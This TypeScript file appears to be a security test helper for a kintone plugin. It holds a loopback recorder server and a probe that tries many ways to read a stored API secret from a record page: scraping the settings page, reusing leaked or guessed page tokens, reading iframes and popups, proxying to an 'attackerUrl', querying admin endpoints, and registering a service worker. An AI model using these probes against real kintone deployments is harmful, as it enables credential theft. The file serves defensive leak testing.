import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";

type Seen = { url: string; headers: IncomingHttpHeaders; body: string };

/** A loopback HTTP server that records what reaches it (the "external API", or an attacker's). */
export async function startRecorder(): Promise<{
  url: string;
  seen: Seen[];
  close: () => Promise<void>;
}> {
  const seen: Seen[] = [];
  const server: Server = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
    request.on("end", () => {
      seen.push({ url: request.url ?? "", headers: request.headers, body });
      response.writeHead(200, { "Content-Type": "application/json" }).end('{"ok":true}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, seen, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** The part of the page's `kintone` global these tests call (page.evaluate runs in the page). */
export type KintoneWindow = {
  kintone: {
    plugin: {
      app: {
        getProxyConfig(url: string, method: string): unknown;
        setConfig(config: Record<string, string>): void;
        proxy(...args: unknown[]): Promise<unknown>;
      };
    };
    getRequestToken(): string;
  };
};

/** Runs inside a record page: every way a customization could try to read the stored key. */
export async function probeForSecret(input: {
  appId: number;
  pluginId: string;
  apiUrl: string;
  attackerUrl: string;
  secret: string;
  settingsPath: string;
  scriptUrl: string;
}) {
  const kintone = (window as unknown as KintoneWindow).kintone;
  const found: string[] = [];
  const check = (label: string, text: unknown) => {
    if (String(text).includes(input.secret)) found.push(label);
  };
  const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
  const getProxyConfig = kintone.plugin.app.getProxyConfig(input.apiUrl, "POST");
  check("getProxyConfig", JSON.stringify(getProxyConfig));

  const settings = await fetch(input.settingsPath);
  const settingsHtml = await settings.text();
  check("fetch settings page", settingsHtml);
  const leakedToken = /"pageToken":"([^"]+)"/.exec(settingsHtml)?.[1];
  const readStatuses: number[] = [];
  for (const pageToken of [undefined, leakedToken ?? "guessed-token"]) {
    const response = await fetch("/k/api/plugin/proxy-config/read.json", {
      method: "POST",
      headers: { "X-Requested-With": "XMLHttpRequest", "Content-Type": "application/json" },
      body: JSON.stringify({
        app: input.appId,
        pluginId: input.pluginId,
        pageToken,
        __REQUEST_TOKEN__: kintone.getRequestToken(),
      }),
    });
    readStatuses.push(response.status);
    check("read endpoint", await response.text());
  }

  const frame = document.createElement("iframe");
  frame.src = input.settingsPath;
  document.body.append(frame);
  const popup = window.open(input.settingsPath);
  await pause(2000);
  let frameReadable = false;
  let popupReadable = false;
  try {
    frameReadable = Boolean(frame.contentDocument?.getElementById("lk-main"));
    check("iframe", frame.contentDocument?.documentElement.outerHTML);
    const framed = (frame.contentWindow as unknown as { kintone?: typeof kintone } | null)?.kintone;
    check(
      "iframe kintone",
      JSON.stringify(framed?.plugin.app.getProxyConfig(input.apiUrl, "POST")),
    );
  } catch {
    // Cross-origin error page: nothing readable, which is the point.
  }
  try {
    popupReadable = Boolean(popup?.document.getElementById("lk-main"));
    check("popup", popup?.document.documentElement.outerHTML);
    const opened = (popup as unknown as { kintone?: typeof kintone } | null)?.kintone;
    check("popup kintone", JSON.stringify(opened?.plugin.app.getProxyConfig(input.apiUrl, "POST")));
  } catch {
    // A separate browsing-context group: no access.
  }

  await kintone.plugin.app
    .proxy(input.pluginId, input.attackerUrl, "POST", {}, {})
    .catch(() => undefined);
  for (const path of [
    `/k/v1/app/plugins.json?app=${input.appId}`,
    `/k/v1/preview/app/plugins.json?app=${input.appId}`,
    "/k/v1/plugins.json",
    `/k/v1/app/customize.json?app=${input.appId}`,
    `/k/v1/app.json?id=${input.appId}`,
  ]) {
    const response = await fetch(path, { headers: { "X-Requested-With": "XMLHttpRequest" } });
    check(path, await response.text());
  }
  let serviceWorkerRegistered = false;
  try {
    await navigator.serviceWorker.register(input.scriptUrl, { scope: "/k/admin/" });
    serviceWorkerRegistered = true;
  } catch {
    // Refused: the script's path cannot claim /k/admin/.
  }
  check("record page", document.documentElement.outerHTML);
  check("storage", JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }));
  return {
    found,
    getProxyConfig,
    settingsFetchStatus: settings.status,
    leakedToken: leakedToken ?? null,
    readStatuses,
    frameReadable,
    popupReadable,
    serviceWorkerRegistered,
  };
}
